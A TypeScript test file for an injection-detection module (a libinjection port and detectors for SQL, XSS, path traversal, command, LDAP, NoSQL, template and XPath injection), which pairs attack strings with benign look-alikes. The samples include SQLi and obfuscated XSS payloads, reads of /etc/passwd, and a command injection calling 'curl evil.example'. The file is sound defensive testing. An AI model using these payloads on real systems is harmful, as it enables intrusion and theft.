/**
 * The detectors alone, without a gateway: the libinjection port's
 * fingerprints (checked against the C library on libinjection's own 167,419
 * test inputs while porting), decoding, and the attack/benign pairs each
 * structural rule must tell apart.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { decodedForms } from './decode.ts';
import { compileDetectors, detect } from './detectors.ts';
import { SqliState, isSqli } from './libinjection/sqli.ts';
import { isXss } from './libinjection/xss.ts';
import type { InjectionProtectionConfig } from './schema.ts';

const ALL = ['sql', 'xss', 'path_traversal', 'command', 'ldap', 'nosql', 'ssti', 'ssi', 'java_exception', 'xpath_abbreviated', 'xpath_extended'];

function detector(types: string[]) {
  const detectors = compileDetectors({ injection_types: types, custom_injections: [] } as unknown as InjectionProtectionConfig);
  return (value: string, isName = false) => detect(detectors, decodedForms(value), isName);
}

describe('libinjection port', () => {
  const sf = new SqliState();
  test('SQLi fingerprints as the C library computes them', () => {
    const cases: [string, string | null][] = [
      ['1 UNION SELECT 1,2,3--', '1UE1c'],
      ["' OR '1'='1", 's&sos'],
      ['1; DROP TABLE users', '1;Tnn'],
      ["admin'--", 'sc'],
      ["1' AND SLEEP(5)#", 's&f(1'],
      ['1/**/OR/**/1=1', '1&1'],
      ["O'Brien", null],
      ['select the drop-down', null],
      ['foo \'bar\' "zap"', null],
    ];
    for (const [input, fp] of cases) assert.equal(isSqli(sf, input), fp, input);
  });

  test('XSS: dangerous tags, attributes and URLs in any HTML context', () => {
    for (const v of ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '" onmouseover="alert(1)', '<a href="javascript:alert(1)">x</a>', '<!DOCTYPE html>', '<iframe src=//x>']) {
      assert.equal(isXss(v), true, v);
    }
    for (const v of ['<b>bold</b>', 'x < y and y > z', '<a href="https://example.com">link</a>', '<p>Hello</p>', 'I <3 this']) assert.equal(isXss(v), false, v);
  });

  test('a javascript: URL with tab, CR or LF inside its scheme (browsers remove them; a Palisade change to libinjection)', () => {
    for (const v of ['<a href="jav&#x09;ascript:alert(1)">', '<a href="jav&#9;ascript:alert(1)">', '<a href="jav\tascript:alert(1)">', '<a href="ja&#x0D;vascript:alert(1)">', '<img src="j&#10;avascript:alert(1)">', '<a href="vb&#9;script:msgbox(1)">']) {
      assert.equal(isXss(v.replace(/&#x09;|&#9;/g, '\t').replace(/&#x0D;/g, '\r').replace(/&#10;/g, '\n')), true, v);
      assert.equal(isXss(v), true, `${v} (entity-encoded)`);
    }
    assert.equal(isXss('<a href="https://example.com/java\tscript">x</a>'), false);
  });

  test('style attributes: only CSS that can run code (a Palisade change to libinjection)', () => {
    assert.equal(isXss('<span style="color: red">x</span>'), false);
    assert.equal(isXss('<div style="width:expression(alert(1))">'), true);
    assert.equal(isXss('<div style="background:url(javascript:alert(1))">'), true);
  });
});

describe('decoding', () => {
  test('each layer is a form of its own', () => {
    assert.deepEqual(decodedForms('plain text'), ['plain text']);
    assert.deepEqual(decodedForms('%253Cb%253E'), ['%253Cb%253E', '%3Cb%3E', '<b>']);
    assert.deepEqual(decodedForms('&lt;b&gt;'), ['&lt;b&gt;', '<b>']);
    assert.deepEqual(decodedForms('\\u003cb\\u003e'), ['\\u003cb\\u003e', '<b>']);
    assert.deepEqual(decodedForms('%u003cb%u003e'), ['%u003cb%u003e', '<b>']);
    assert.deepEqual(decodedForms('%c0%ae%c0%ae%c0%af'), ['%c0%ae%c0%ae%c0%af', '../']);
    assert.deepEqual(decodedForms('..\u2215..\u2215'), ['..\u2215..\u2215', '../../']);
    assert.deepEqual(decodedForms('AT&T and R&D'), ['AT&T and R&D']);
  });
});

describe('detectors', () => {
  const all = detector(ALL);
  const pairs: [string, string[], string[]][] = [
    ['sql', ["1' OR '1'='1", "'; DROP TABLE users; --", '1 UNION SELECT username FROM users', "admin' #", '1 or true', '@@version', '1::int', '1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)', '1 PROCEDURE ANALYSE()'], ["O'Brien", 'Only call a function once.', 'use the "-" character', 'Tom & Jerry', 'v8::Integer::New', 'fe80::1', 'Room #12', '1 or 2 items']],
    ['path_traversal', ['../../etc/passwd', 'a/../../../../b', '../.env', '/etc/shadow', 'php://filter/resource=x', '....//....//x'], ['see [docs](../docs/a.md)', '../images/logo.png', 'C:\\Users\\me\\a.txt', 'https://example.com/a/../b']],
    ['command', ['; id', '| whoami', 'x && curl evil.example', '; cat /etc/passwd', '`uname -a`', '$(sleep 5)', ';w\'h\'o\'am\'i'], ['Tom & Jerry; cat lovers', 'Java | Python | Go', 'Run `ls -la` to list', 'salt & pepper; more info at https://x.example', 'data:image/png;base64,iVBORw0KGgo=']],
    ['ldap', ['*)(uid=*))(|(uid=*', 'admin)(&)', '(|(mail=*)(cn=*))', 'admin))%00'], ['(see above)', 'f(x) = (a)(b)', 'Items (1), (2)']],
    ['nosql', ['{"$gt": ""}', "' || '1'=='1", "'; return true; var x='"], ['price is $5', '{"$schema": "x"}', "a === 'x' || b === 'y'"]],
    ['xss', ['jav&#x09;ascript:alert(1)', 'jav\tascript:alert(document.domain)', 'ja&#13;vascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', '\\";alert(1);//', "'-alert(1)-'", 'Set.constructor`alert\\x28document.domain\\x29`', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>', '\u00bcscript\u00bealert(1)\u00bc/script\u00be'], ['javascript: the good parts', 'data:image/png;base64,iVBORw0KGgo=', 'data:image/svg+xml;base64,PHN2Zz48cmVjdCB3aWR0aD0iMSIvPjwvc3ZnPg==', "it's \"fine\", alert me later", 'client.on(\'connect\', function() {', '\u00bc cup sugar, \u00be cup flour']],
    ['ssti', ['{{7*7}}', '${T(java.lang.Runtime).getRuntime()}', "{{''.__class__.__mro__}}", '<%= system("id") %>', '#set($x = 1)'], ['Hello {{name}}', '${HOME}/bin', '#{user.id}', '{% if user %}hi{% endif %}', '[[2024-01-15]]']],
  ];
  for (const [type, attacks, benign] of pairs) {
    test(`${type}: attacks found, look-alikes left alone`, () => {
      const only = detector([type]);
      for (const a of attacks) assert.equal(only(a), type, `attack: ${a}`);
      for (const b of benign) assert.equal(only(b), null, `benign: ${b}`);
    });
  }

  test('NoSQL operators are looked for in names (JSON keys, bracketed parameters)', () => {
    assert.equal(all('$ne', true), 'nosql');
    assert.equal(all('password[$regex]', true), 'nosql');
    assert.equal(all('$ref', true), null);
    assert.equal(all('$ne'), null, 'a lone "$ne" as a value is text');
  });

  test("Kong's types: ssi, java_exception, xpath", () => {
    assert.equal(all('<!--#exec cmd="ls" -->'), 'ssi');
    assert.equal(all('Exception in thread "main" java.lang.NullPointerException'), 'java_exception');
    assert.equal(all("'] | //user/*[contains(., 'a')] | //x['"), 'xpath_abbreviated');
    assert.equal(all('/a/ancestor::node()'), 'xpath_extended');
  });

  test('sql_low_sensitivity ignores two-token fingerprints; sql wins when both are listed; js and xss are one detector', () => {
    const low = detector(['sql_low_sensitivity']);
    assert.equal(low("admin'--"), null);
    assert.equal(low("' OR '1'='1"), 'sql_low_sensitivity');
    assert.equal(detector(['sql_low_sensitivity', 'sql'])("admin'--"), 'sql');
    assert.equal(detector(['js'])('<svg onload=alert(1)>'), 'js');
    assert.equal(compileDetectors({ injection_types: ['js', 'xss'] } as unknown as InjectionProtectionConfig).length, 1);
  });
});
